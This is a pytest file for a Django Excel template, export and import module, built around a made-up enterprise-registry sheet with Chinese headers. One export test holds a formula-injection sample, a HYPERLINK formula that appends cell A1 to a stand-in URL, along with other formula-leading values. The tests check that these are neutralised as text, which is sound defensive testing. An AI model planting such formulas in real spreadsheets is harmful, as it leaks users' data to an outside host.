"""The Excel kit: a module that declares a spec gets its template, its export and its import.

The spec here is a made-up "enterprises" sheet, with no model behind it: the import's apply
collects the rows it is given.
"""
from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import IntegrityError
from openpyxl import Workbook, load_workbook

from core.excel import (
    Column,
    ImportReport,
    ImportSheet,
    Issue,
    SheetSpec,
    choice_parser,
    guard,
    parse_date,
    parse_money,
    parse_text,
    run_import,
    write_workbook,
)
from core.excel.cells import DATE_FORMAT, MONEY_FORMAT, REQUIRED_FILL

pytestmark = pytest.mark.django_db

KINDS = {"规上": "above", "规下": "below"}
SPEC = SheetSpec(
    title="企业名录",
    columns=(
        Column("code", "信用代码", parse_text, True, "统一社会信用代码，18位。", synonyms=("统一社会信用代码",),
               width=22, user_text=True),
        Column("name", "企业名称", parse_text, True, "全称。", width=30, user_text=True),
        Column("kind", "企业类型", choice_parser(KINDS, list(KINDS)), True, "规上或规下。", choices=list(KINDS)),
        Column("output", "产值(万元)", parse_money, False, "数字，单位万元。", number_format=MONEY_FORMAT),
        Column("founded", "成立日期", parse_date, False, "日期。", number_format=DATE_FORMAT),
        Column("target", "{}年目标(万元)", parse_money, False, "每年一列：%(headers)s。", number_format=MONEY_FORMAT,
               pattern=r"(\d{4})年目标\(万元\)", family_header="YYYY年目标(万元)",
               param_check=lambda year: None if 2000 <= int(year) <= 2100 else "年度应在 2000 至 2100 之间"),
        Column("rank", "排名", None, help="导出时附带，导入时忽略。", read_only=True),
    ),
    instructions=["1. 以信用代码识别企业。", "2. 有任何错误则全部不保存。"],
    notes_title="填写说明",
    help_comments=True,
)
TARGET_2026 = SPEC.column("target").expand(2026)
WRITTEN = [*SPEC.fixed(), TARGET_2026, SPEC.column("rank")]
HEADERS = ["信用代码", "企业名称", "企业类型", "产值(万元)", "成立日期", "2026年目标(万元)", "排名"]


def template() -> bytes:
    out = io.BytesIO()
    write_workbook(out, SPEC, columns=WRITTEN)
    return out.getvalue()


def export(rows: list[dict[str, Any]]) -> bytes:
    out = io.BytesIO()
    assert write_workbook(out, SPEC, rows, columns=WRITTEN) == len(rows)
    return out.getvalue()


def book(rows: list[list[Any]], header: list[str] = HEADERS) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = SPEC.title
    ws.append(header)
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


class Collector:
    """The module's side of the import: checks the codes, and "saves" by keeping the rows."""

    def __init__(self) -> None:
        self.saved: list[dict[str, Any]] = []

    def check(self, sheet: ImportSheet) -> list[dict[str, Any]]:
        seen: dict[str, int] = {}
        for row in sheet.rows:
            code = row.values.get("code")
            if code in seen:
                sheet.error(row.number, "code", f"与第 {seen[code]} 行重复")
            elif code:
                seen[code] = row.number
        return _required(sheet)

    def apply(self, sheet: ImportSheet, rows: list[dict[str, Any]]) -> None:
        self.saved.extend(rows)
        sheet.report.created = len(rows)

    def run(self, data: bytes) -> ImportReport:
        return run_import(SPEC, SimpleUploadedFile("企业.xlsx", data), check=self.check, apply=self.apply)


def cells_of(report: ImportReport) -> list[tuple[int | None, str, str, str]]:
    return [(i.row, i.letter, i.column, i.message) for i in report.sorted_errors()]


# --- template and export --------------------------------------------------------------------------

def test_the_template_has_the_headers_styles_help_and_dropdowns() -> None:
    wb = load_workbook(io.BytesIO(template()))
    assert wb.sheetnames == ["企业名录", "填写说明"]
    ws = wb["企业名录"]
    assert [c.value for c in ws[1]] == HEADERS
    assert ws.max_row == 1
    assert ws["A1"].fill.fgColor.rgb == REQUIRED_FILL.fgColor.rgb and ws["A1"].font.bold
    assert ws["A1"].comment is not None and "18位" in ws["A1"].comment.text
    assert ws.column_dimensions["A"].number_format == "@"  # a code typed later stays text
    assert ws.column_dimensions["D"].number_format == MONEY_FORMAT
    kinds = next(dv for dv in ws.data_validations.dataValidation if str(dv.sqref).startswith("C2"))
    assert kinds.formula1 == '"规上,规下"' and str(kinds.sqref) == "C2:C2001"
    notes = [row for row in wb["填写说明"].iter_rows(values_only=True)]
    listed = {row[0]: row for row in notes if row and row[0]}
    assert listed["信用代码"][1:] == ("必填", None, "统一社会信用代码，18位。")
    assert listed["企业类型"][2] == "规上、规下"
    assert listed["YYYY年目标(万元)"][3] == "每年一列：2026年目标(万元)。"
    assert listed["排名"][1] == "只读"
    assert "2. 有任何错误则全部不保存。" in listed


def test_the_export_writes_user_text_as_strings_and_reads_back_unchanged() -> None:
    hostile = '=HYPERLINK("http://x/?"&A1,"点击")'
    rows = [
        {"code": "91370000MA0001", "name": hostile, "kind": "规上", "output": Decimal("1234.5"),
         "founded": dt.date(2020, 5, 1), "target:2026": Decimal("2000"), "rank": 1},
        {"code": "+1", "name": "@SUM(1,2)", "kind": "规下"},
    ]
    data = export(rows)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(re.search(rb"<(?:\w+:)?f[\s>/]", sheet) for sheet in sheets)
    ws = load_workbook(io.BytesIO(data))["企业名录"]
    assert (ws["B2"].value, ws["B2"].data_type) == (hostile, "s")
    assert ws["E2"].number_format == DATE_FORMAT

    collector = Collector()
    report = collector.run(data)
    assert report.ok, cells_of(report)
    assert collector.saved == [
        {"code": "91370000MA0001", "name": hostile, "kind": "above", "output": Decimal("1234.50"),
         "founded": dt.date(2020, 5, 1), "target:2026": Decimal("2000.00")},
        {"code": "+1", "name": "@SUM(1,2)", "kind": "below", "output": None, "founded": None, "target:2026": None},
    ]


# --- import ---------------------------------------------------------------------------------------

def test_every_error_is_collected_with_row_letter_and_header_and_nothing_is_applied() -> None:
    collector = Collector()
    report = collector.run(book([
        ["A-1", "甲", "规上", 10, "2020-01-01", 5],
        ["A-2", None, "国企", "很多", "昨天", None],
        ["A-1", "丙", "规下", None, None, "=1+1"],
    ]))
    assert cells_of(report) == [
        (3, "B", "企业名称", "必须填写"),
        (3, "C", "企业类型", "应为以下之一：规上、规下，实际为“国企”"),
        (3, "D", "产值(万元)", "应为数字，实际为“很多”"),
        (3, "E", "成立日期", "应为日期（如 2026-03-01），实际为“昨天”"),
        (4, "A", "信用代码", "与第 2 行重复"),
        (4, "F", "2026年目标(万元)", "单元格是公式“=1+1”，请复制后“选择性粘贴-数值”再上传"),
    ]
    assert str(report.sorted_errors()[0]) == "第 3 行 B列「企业名称」：必须填写"
    assert collector.saved == []


def test_headers_by_synonym_unknown_missing_and_duplicate() -> None:
    header = ["统一社会信用代码", "企业名称", "备忘", "信用代码", "1999年目标(万元)"]
    report = Collector().run(book([["A-1", "甲"]], header=header))
    assert cells_of(report) == [
        (1, "", "", "缺少必填列：企业类型。请使用下载的模板，第1行为列名。"),
        (1, "D", "信用代码", "列名重复（第 A 列和第 D 列）"),
        (1, "E", "1999年目标(万元)", "年度应在 2000 至 2100 之间"),
    ]
    assert report.warnings == ["未识别的列“备忘”（第 C 列）已忽略。"]


def test_a_module_without_optional_columns_and_read_only_columns_ignored() -> None:
    collector = Collector()
    report = collector.run(book([["A-1", "甲", "规上", 99]], header=["信用代码", "企业名称", "企业类型", "排名"]))
    assert report.ok, cells_of(report)
    assert collector.saved == [{"code": "A-1", "name": "甲", "kind": "above"}]
    assert report.warnings == ["文件中没有以下列，已有的这些内容保持不变：产值(万元)、成立日期。"]


def _required(sheet: ImportSheet) -> list[dict[str, Any]]:
    for row in sheet.rows:
        if not row.values.get("name") and "name" not in row.bad:
            sheet.error(row.number, "name", "必须填写")
    return [row.good() for row in sheet.rows]


def test_an_error_while_applying_rolls_everything_back() -> None:
    def failing(sheet: ImportSheet, rows: list[dict[str, Any]]) -> None:
        raise IntegrityError("duplicate key")

    report = run_import(SPEC, SimpleUploadedFile("a.xlsx", book([["A-1", "甲", "规上"]])),
                        check=_required, apply=failing)
    assert [str(issue) for issue in report.errors] == [
        "保存时数据库报错（可能有人同时修改了这些数据），没有保存任何数据，请稍后重新上传。"
    ]

    def refusing(sheet: ImportSheet, rows: list[dict[str, Any]]) -> None:
        sheet.error(2, "code", "已被占用")

    report = run_import(SPEC, SimpleUploadedFile("a.xlsx", book([["A-1", "甲", "规上"]])),
                        check=_required, apply=refusing)
    assert report.errors == [Issue(2, "信用代码", "已被占用", 1)]


def test_the_caps_and_the_file_checks_apply(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(guard, "MAX_ROWS", 3)
    report = Collector().run(book([[f"A-{n}", "甲", "规上"] for n in range(5)]))
    assert [str(issue) for issue in report.errors] == ["文件的数据超过上限 3 行，请分批导入。"]
    report = Collector().run(b"code,name\n1,2\n")
    assert "文本或 CSV 文件" in str(report.errors[0])
    report = Collector().run(book([]))
    assert str(report.errors[0]) == "“企业名录”工作表中没有数据行（第2行起）。"
